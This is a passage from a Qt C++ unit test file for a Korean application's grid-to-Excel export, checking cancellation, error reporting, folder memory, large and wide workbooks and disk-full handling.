        QCOMPARE(QDir(m_dir).entryList(QDir::Files | QDir::Hidden).size(), 1);
    }

    void cancelledSaveAsWritesNothing() {
        auto grid = boardGrid({{"1", "김철수", ""}});
        PromptScript script;
        script.answerSaveAs(QString());
        ExportGridToExcel(*grid, QStringLiteral("목록"));
        QCOMPARE(script.asked().size(), size_t(1));
        QVERIFY(QDir(m_dir).entryList(QDir::Files | QDir::Hidden).isEmpty());
        QVERIFY(!QFile::exists(ProgramFolder() + QStringLiteral("/목록.xls")));
    }

    // The refusal names the file and says what the system answered, nothing guessed.
    void failedWriteSaysWhy_data() {
        QTest::addColumn<QString>("filter");
        QTest::addColumn<QString>("target");
        QTest::addColumn<QString>("reason");
        const QString missing = qt_error_string(ENOENT);
        QTest::newRow("xls, missing folder") << kXls << "/없는폴더/목록" << missing;
        QTest::newRow("xlsx, missing folder") << kXlsx << "/없는폴더/목록" << missing;
        QTest::newRow("xlsx, a folder of that name") << kXlsx << "/폴더.xlsx"
                                                     << "같은 이름의 폴더가 있습니다.";
    }
    void failedWriteSaysWhy() {
        QFETCH(QString, filter);
        QFETCH(QString, target);
        QFETCH(QString, reason);
        QDir(m_dir).mkdir(QStringLiteral("폴더.xlsx"));
        auto grid = boardGrid({{"1", "김철수", ""}});
        PromptScript script;
        script.answerSaveAs(m_dir + target, filter);
        ExportGridToExcel(*grid, QStringLiteral("목록"));
        QCOMPARE(script.asked().back().kind, PromptKind::Refusal);
        const QString text = script.asked().back().text;
        QVERIFY2(text.contains(QStringLiteral("저장하지 못했습니다")) && text.endsWith(reason),
                 qPrintable(text));
        QVERIFY(!QFileInfo::exists(m_dir + QStringLiteral("/없는폴더")));
        QCOMPARE(QDir(m_dir).entryList(QDir::Files | QDir::Hidden), QStringList());
    }

    // Stopping a long write (the progress dialog's 취소) leaves the old file and no leftovers.
    void stoppedWriteLeavesTargetAlone_data() {
        QTest::addColumn<bool>("xlsx");
        QTest::newRow("xls") << false;
        QTest::newRow("xlsx") << true;
    }
    void stoppedWriteLeavesTargetAlone() {
        QFETCH(bool, xlsx);
        const QString path = m_dir + (xlsx ? QStringLiteral("/big.xlsx") : QStringLiteral("/big.xls"));
        writeFile(path, "old");
        ExportTable table;
        table.rows << QStringList{QStringLiteral("번호"), QStringLiteral("이름")};
        for (int i = 1; i <= 3000; ++i)
            table.rows << QStringList{QString::number(i), QStringLiteral("홍길동")};
        qsizetype seen = 0;
        const ExportProgress stopAt2000 = [&](qsizetype done) {
            seen = done;
            return done < 2000;
        };
        const ExportResult result =
            xlsx ? WriteXlsxFile(path, table, stopAt2000) : WriteTabTextFile(path, table, stopAt2000);
        QVERIFY(result.cancelled);
        QVERIFY(!result.written);
        QCOMPARE(seen, qsizetype(2000));
        QCOMPARE(readAll(path), QByteArray("old"));
        QCOMPARE(QDir(m_dir).entryList(QDir::Files | QDir::Hidden).size(), 1);
    }

    // The Save-As dialog opens where this kind of export was last saved; other kinds, and the
    // first export, open in the user's documents, never in the program folder.
    void lastFolderPerKind() {
        auto grid = boardGrid({{"1", "김철수", ""}});
        const QString orders = m_dir + QStringLiteral("/오더");
        QVERIFY(QDir().mkpath(orders));
        PromptScript script;
        script.answerSaveAs(orders + QStringLiteral("/a.xlsx"));
        ExportGridToExcel(*grid, QStringLiteral("오더내역_241208"));
        script.answerSaveAs(QString());
        ExportGridToExcel(*grid, QStringLiteral("오더내역_241209"));
        script.answerSaveAs(QString());
        ExportGridToExcel(*grid, QStringLiteral("차주목록_241209"));
        QCOMPARE(script.asked().size(), size_t(4));
        const QString first = script.asked()[0].folder;
        QVERIFY(first != ProgramFolder());
        QVERIFY(QFileInfo(first).isDir());
        QCOMPARE(script.asked()[2].folder, orders);
        QCOMPARE(script.asked()[3].folder, first);
        QCOMPARE(ExportKindName(QStringLiteral("오더내역_241209")), QStringLiteral("오더내역"));
    }

    // A sheet far larger than the writer's buffers: the archive checks out, and every row
    // comes back, the last one as written.
    void largeWorkbookReadsBack() {
        const QString path = m_dir + QStringLiteral("/large.xlsx");
        const ExportTable table = bulkyTable(8000);
        const ExportResult result = WriteXlsxFile(path, table);
        QVERIFY2(result.written, qPrintable(result.error));
        QVERIFY(QFileInfo(path).size() > 512 * 1024);
        QCOMPARE(QProcess::execute(QStringLiteral("unzip"), {QStringLiteral("-tqq"), path}), 0);
        if (!hasOpenpyxl()) QSKIP("python3-openpyxl is not installed");
        const QJsonArray rows =
            readBack(QStringLiteral("xlsx"), path).object().value(QStringLiteral("rows")).toArray();
        QCOMPARE(rows.size(), table.rows.size());
        const QJsonArray last = rows.last().toArray();
        QCOMPARE(last[0].toArray()[1].toString(), QStringLiteral("8000")); // a 번호 stays a text
        QCOMPARE(last[1].toArray()[1].toString(), table.rows.last()[1]);
        QCOMPARE(last[2].toArray()[1].toInt(), 9000);
        if (QStandardPaths::findExecutable(QStringLiteral("ssconvert")).isEmpty())
            QSKIP("gnumeric (ssconvert) is not installed");
        const QList<QStringList> shown = throughGnumeric(path, m_dir);
        QCOMPARE(shown.size(), table.rows.size());
        QCOMPARE(shown.last().mid(0, 2), table.rows.last().mid(0, 2));
    }

    // A column dragged wider than a spreadsheet column can be is as wide as one can be (255
    // characters), not a sliver.
    void widestColumn() {
        if (!hasOpenpyxl()) QSKIP("python3-openpyxl is not installed");
        const QString path = m_dir + QStringLiteral("/wide.xlsx");
        ExportTable table;
        table.rows = {{QStringLiteral("메모"), QStringLiteral("비고")},
                      {QStringLiteral("a"), QStringLiteral("b")}};
        table.widthsPx = {1900, 700};
        QVERIFY(WriteXlsxFile(path, table).written);
        const QJsonObject widths =
            readBack(QStringLiteral("xlsx"), path).object().value(QStringLiteral("widths")).toObject();
        QCOMPARE(widths.value(QStringLiteral("A")).toDouble(), 255.0);
        QCOMPARE(widths.value(QStringLiteral("B")).toDouble(), 100.0);
    }

    // The disk fills up halfway (the file size limit stands in for it): the export says it
    // failed and leaves nothing behind.
    void fullDiskIsReported_data() { stoppedWriteLeavesTargetAlone_data(); }
    void fullDiskIsReported() {
        QFETCH(bool, xlsx);
        const QString path = m_dir + (xlsx ? QStringLiteral("/full.xlsx") : QStringLiteral("/full.xls"));
        const ExportTable table = bulkyTable(4000);
        rlimit old{};
        QVERIFY(::getrlimit(RLIMIT_FSIZE, &old) == 0);
        rlimit small = old;
        small.rlim_cur = 64 * 1024;
        const auto oldHandler = std::signal(SIGXFSZ, SIG_IGN);
        QVERIFY(::setrlimit(RLIMIT_FSIZE, &small) == 0);
        const ExportResult result = xlsx ? WriteXlsxFile(path, table) : WriteTabTextFile(path, table);
        ::setrlimit(RLIMIT_FSIZE, &old);
        std::signal(SIGXFSZ, oldHandler);
        QVERIFY(!result.written);
        QVERIFY(!result.error.isEmpty());
        QCOMPARE(QDir(m_dir).entryList(QDir::Files | QDir::Hidden), QStringList());
    }

    void workbookSurvivesHostileCells() {
        const QString path = m_dir + QStringLiteral("/hostile.xlsx");
        const QString huge(40000, QChar(u'가'));
        ExportTable table;
        table.rows = {{"a", "b"}, {QStringLiteral("x\x01y"), huge}};
        const ExportResult result = WriteXlsxFile(path, table);
        QVERIFY2(result.written, qPrintable(result.error));
        QVERIFY(readAll(path).startsWith("PK"));
        QCOMPARE(QDir(m_dir).entryList(QDir::Files | QDir::Hidden),
                 QStringList{QStringLiteral("hostile.xlsx")});
    }
};

DELMORA_TEST_MAIN(tst_GridExport)
#include "tst_gridexport.moc"
